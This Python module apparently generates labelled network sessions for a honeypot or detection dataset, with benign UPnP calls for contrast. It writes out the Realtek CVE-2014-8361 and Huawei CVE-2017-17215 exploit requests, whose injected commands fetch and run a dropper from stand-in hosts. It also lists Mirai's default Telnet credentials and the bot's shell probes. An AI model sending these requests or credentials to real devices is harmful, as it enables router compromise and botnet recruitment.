"""Write the application bytes of the responder sessions: UPnP SOAP requests and Telnet logins.

Each builder returns the bytes and the facts the ground truth records about
them (CVE ids, indicator URLs and hosts, credentials). Request traits follow
FIELD-NOTES §4: the Realtek miniigd exploit (CVE-2014-8361) POSTs an
``AddPortMapping`` SOAP call to ``/picdesc.xml``, ``/picsdesc.xml`` or
``/wanipcn.xml?service=WANIPConn1`` with a shell command in
``NewInternalClient``; the Huawei HG532 exploit (CVE-2017-17215) POSTs
``/ctrlt/DeviceUpgrade_1`` with ``$(...)`` in ``NewStatusURL``. Mirai's
credential pairs are the table in jgamblin/Mirai-Source-Code
``mirai/bot/scanner.c`` (``add_auth_entry``).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import numpy as np

Facts = dict[str, Any]
SOAP_ACTION = "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"
_ENVELOPE = (
    '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
    's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>{body}</s:Body>'
    "</s:Envelope>"
)
_ADD_PORT_MAPPING = (
    '<{p}:AddPortMapping xmlns:{p}="urn:schemas-upnp-org:service:WANIPConnection:1">'
    "<NewRemoteHost></NewRemoteHost><NewExternalPort>{ext}</NewExternalPort>"
    "<NewProtocol>TCP</NewProtocol><NewInternalPort>{port}</NewInternalPort>"
    "<NewInternalClient>{client}</NewInternalClient><NewEnabled>1</NewEnabled>"
    "<NewPortMappingDescription>{desc}</NewPortMappingDescription>"
    "<NewLeaseDuration>0</NewLeaseDuration></{p}:AddPortMapping>"
)


@dataclass(frozen=True)
class RealtekVariant:
    """One way the CVE-2014-8361 exploit was sent."""

    path: str
    prefix: str
    wrap: str
    """``backtick`` or ``dollar``: how the command is injected."""
    headers: str
    """``requests`` (the seed's sample), ``quoted`` (quoted SOAPAction) or ``bare``."""
    host: str
    file: str


REALTEK_VARIANTS: tuple[RealtekVariant, ...] = (
    RealtekVariant("/picdesc.xml", "u", "backtick", "requests", "198.51.100.23", "okiru.sh"),
    RealtekVariant("/picsdesc.xml", "u", "dollar", "bare", "198.51.100.41", "okiru.mips"),
    RealtekVariant("/wanipcn.xml?service=WANIPConn1", "m", "backtick", "quoted",
                   "loader.okiru.example", "okiru.sh"),
    RealtekVariant("/picdesc.xml", "m", "dollar", "requests", "198.51.100.23", "okiru.arm7"),
    RealtekVariant("/picsdesc.xml", "u", "backtick", "bare", "dl.satori.example", "bins.sh"),
    RealtekVariant("/wanipcn.xml?service=WANIPConn1", "u", "dollar", "quoted",
                   "198.51.100.77", "okiru.sh"),
)  # fmt: skip
"""Every path, prefix, injection style and header set appears at least once."""

MIRAI_CREDENTIALS: frozenset[tuple[str, str]] = frozenset((
    ("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"),
    ("root", "888888"), ("root", "xmhdipc"), ("root", "default"), ("root", "juantech"),
    ("root", "123456"), ("root", "54321"), ("support", "support"), ("root", ""),
    ("admin", "password"), ("root", "root"), ("root", "12345"), ("user", "user"), ("admin", ""),
    ("root", "pass"), ("admin", "admin1234"), ("root", "1111"), ("admin", "smcadmin"),
    ("admin", "1111"), ("root", "666666"), ("root", "password"), ("root", "1234"),
    ("root", "klv123"), ("Administrator", "meinsm"), ("service", "service"),
    ("supervisor", "supervisor"), ("guest", "guest"), ("guest", "12345"),
    ("admin1", "password"), ("administrator", "1234"), ("666666", "666666"),
    ("888888", "888888"), ("ubnt", "ubnt"), ("root", "klv1234"), ("root", "Zte521"),
    ("root", "hi3518"), ("root", "jvbzd"), ("root", "anko"), ("root", "zlxx."),
    ("root", "7ujMko0vizxv"), ("root", "7ujMko0admin"), ("root", "system"), ("root", "ikwb"),
    ("root", "dreambox"), ("root", "user"), ("root", "realtek"), ("root", "00000000"),
    ("admin", "1111111"), ("admin", "1234"), ("admin", "12345"), ("admin", "54321"),
    ("admin", "123456"), ("admin", "7ujMko0admin"), ("admin", "pass"), ("admin", "meinsm"),
    ("tech", "tech"),
))  # fmt: skip
"""Mirai's default Telnet credentials (an empty string is an empty password)."""
OTHER_CREDENTIALS: tuple[tuple[str, str], ...] = (
    ("root", "toor"), ("admin", "Admin@123"), ("telecomadmin", "admintelecom"),
    ("root", "GM8182"), ("e8telnet", "e8telnet"), ("default", "default1"),
)  # fmt: skip
"""Pairs not in Mirai's table (other bots' lists)."""


def _http(method: str, path: str, headers: list[tuple[str, str]], body: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", *(f"{k}: {v}" for k, v in headers)]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def _headers(style: str, host: str, length: int) -> list[tuple[str, str]]:
    if style == "requests":
        return [
            ("Host", host), ("Connection", "keep-alive"), ("Accept-Encoding", "gzip, deflate"),
            ("Accept", "*/*"), ("User-Agent", "python-requests/2.18.4"),
            ("SOAPAction", SOAP_ACTION), ("Content-Length", str(length)),
        ]  # fmt: skip
    if style == "quoted":
        return [
            ("Host", host), ("Content-Type", 'text/xml; charset="utf-8"'),
            ("SOAPAction", f'"{SOAP_ACTION}"'), ("Content-Length", str(length)),
        ]  # fmt: skip
    return [("Host", host), ("Content-Length", str(length)), ("SOAPAction", SOAP_ACTION)]


def realtek_request(rng: np.random.Generator, host: str, variant: int) -> tuple[bytes, Facts]:
    """A CVE-2014-8361 ``AddPortMapping`` request that makes the router fetch a dropper."""
    v = REALTEK_VARIANTS[variant % len(REALTEK_VARIANTS)]
    url = f"http://{v.host}/{v.file}"
    command = f"cd /tmp/;/bin/busybox wget {url};chmod 777 {v.file};sh {v.file}"
    client = f"`{command}`" if v.wrap == "backtick" else f"$({command})"
    body = _ENVELOPE.format(body=_ADD_PORT_MAPPING.format(
        p=v.prefix, ext=int(rng.integers(1024, 65536)), port=int(rng.integers(1024, 65536)),
        client=client, desc="syncthing",
    ))  # fmt: skip
    request = _http("POST", v.path, _headers(v.headers, host, len(body)), body)
    return request, {
        "cves": ["CVE-2014-8361"],
        "indicators": {"urls": [url], "hosts": [v.host]},
        "request": {"method": "POST", "path": v.path, "soap_prefix": v.prefix,
                    "injection": v.wrap, "headers": v.headers, "command": command},
    }  # fmt: skip


def upnp_request(rng: np.random.Generator, host: str, variant: int) -> tuple[bytes, Facts]:
    """A legitimate ``AddPortMapping`` call: a LAN client asking for a game port."""
    lan = f"192.168.1.{20 + variant % 10}"
    port = int(rng.integers(20000, 30000))
    body = _ENVELOPE.format(body=_ADD_PORT_MAPPING.format(
        p="u", ext=port, port=port, client=lan, desc="game-server (TCP)",
    ))  # fmt: skip
    headers = [
        ("HOST", host), ("CONTENT-TYPE", 'text/xml; charset="utf-8"'),
        ("SOAPACTION", f'"{SOAP_ACTION}"'), ("USER-AGENT", "Microsoft-Windows/10.0 UPnP/1.0"),
        ("CONTENT-LENGTH", str(len(body))),
    ]  # fmt: skip
    request = _http("POST", "/upnp/control/WANIPConn1", headers, body)
    return request, {
        "cves": [],
        "indicators": {"urls": [], "hosts": []},
        "request": {"method": "POST", "path": "/upnp/control/WANIPConn1", "soap_prefix": "u",
                    "injection": "none", "headers": "upnp", "internal_client": lan},
    }  # fmt: skip


def huawei_request(rng: np.random.Generator, host: str, variant: int) -> tuple[bytes, Facts]:
    """A CVE-2017-17215 ``DeviceUpgrade_1`` request with ``$(...)`` in ``NewStatusURL``."""
    url = "http://198.51.100.62/okiru.mips"
    command = f"/bin/busybox wget {url} -O /tmp/.hw; chmod 777 /tmp/.hw; /tmp/.hw huawei"
    body = _ENVELOPE.format(body=(
        '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
        f"<NewStatusURL>$({command})</NewStatusURL>"
        "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>"
    ))  # fmt: skip
    nonce = "".join(f"{x:02x}" for x in rng.integers(0, 256, 16))
    auth = (
        'Digest username="dslf-config", realm="HuaweiHomeGateway", '
        f'nonce="{nonce}", uri="/ctrlt/DeviceUpgrade_1", '
        f'response="{nonce[::-1]}", algorithm="MD5", qop="auth", nc=00000001, '
        f'cnonce="{nonce[:16]}"'
    )
    headers = [("Host", host), ("Content-Length", str(len(body))), ("Connection", "keep-alive"),
               ("Accept", "*/*"), ("Authorization", auth)]  # fmt: skip
    request = _http("POST", "/ctrlt/DeviceUpgrade_1", headers, body)
    return request, {
        "cves": ["CVE-2017-17215"],
        "indicators": {"urls": [url], "hosts": ["198.51.100.62"]},
        "request": {"method": "POST", "path": "/ctrlt/DeviceUpgrade_1", "soap_prefix": "u",
                    "injection": "dollar", "headers": "huawei", "command": command},
    }  # fmt: skip


def soap_reply(kind: str) -> bytes:
    """The body the responder answers a SOAP call with (an empty success response)."""
    if kind == "exploit.huawei-hg532":
        action = '<u:UpgradeResponse xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"/>'
    else:
        action = (
            '<u:AddPortMappingResponse xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"/>'
        )
    return _ENVELOPE.format(body=action).encode()


_SERVER_OPTS = bytes.fromhex("fffd01fffd1ffffb01fffb03")
_CLIENT_OPTS = bytes.fromhex("fffc01fffb1ffffa1f00500018fff0fffd01fffd03")
_BANNER = b"\r\n\r\nBusyBox v1.12.1 (2012-03-08 11:32:58 CST) built-in shell (ash)\r\n# "
_COMMANDS = ("enable", "system", "shell", "sh")


def _credentials(rng: np.random.Generator, count: int) -> list[tuple[str, str]]:
    mirai = sorted(MIRAI_CREDENTIALS)
    pairs = []
    for _ in range(count):
        if rng.random() < 0.8:
            pairs.append(mirai[int(rng.integers(0, len(mirai)))])
        else:
            pairs.append(OTHER_CREDENTIALS[int(rng.integers(0, len(OTHER_CREDENTIALS)))])
    return pairs


def telnet_script(rng: np.random.Generator, variant: int) -> tuple[
        list[tuple[bool, bytes]], Facts]:  # fmt: skip
    """A Telnet login conversation as (from_client, bytes) steps, and its facts.

    The server negotiates options first, the client answers; then 1–3
    username/password tries. ``variant`` odd: the last try succeeds and the
    client runs Mirai's shell probes (``enable``, ``system``, ``shell``, ``sh``,
    ``/bin/busybox <TOKEN>``).
    """
    pairs = _credentials(rng, 1 + variant % 3)
    success = variant % 2 == 1
    script: list[tuple[bool, bytes]] = [(False, _SERVER_OPTS), (True, _CLIENT_OPTS),
                                        (False, b"\r\nlogin: ")]  # fmt: skip
    logins = []
    for i, (user, password) in enumerate(pairs):
        ok = success and i == len(pairs) - 1
        script += [(True, f"{user}\r\n".encode()), (False, b"Password: "),
                   (True, f"{password}\r\n".encode()),
                   (False, _BANNER if ok else b"\r\nLogin incorrect\r\nlogin: ")]  # fmt: skip
        logins.append({"username": user, "password": password, "success": ok,
                       "mirai_dict": (user, password) in MIRAI_CREDENTIALS})  # fmt: skip
    commands: list[str] = []
    if success:
        token = "MIRAI" if variant % 4 == 1 else "".join(
            chr(65 + int(c)) for c in rng.integers(0, 26, 5))  # fmt: skip
        commands = [*_COMMANDS, f"/bin/busybox {token}"]
        for cmd in commands:
            answer = f"{token}: applet not found\r\n# " if cmd.endswith(token) else "\r\n# "
            script += [(True, f"{cmd}\r\n".encode()), (False, answer.encode())]
    return script, {"cves": [], "logins": logins, "commands": commands,
                    "indicators": {"urls": [], "hosts": []}}  # fmt: skip
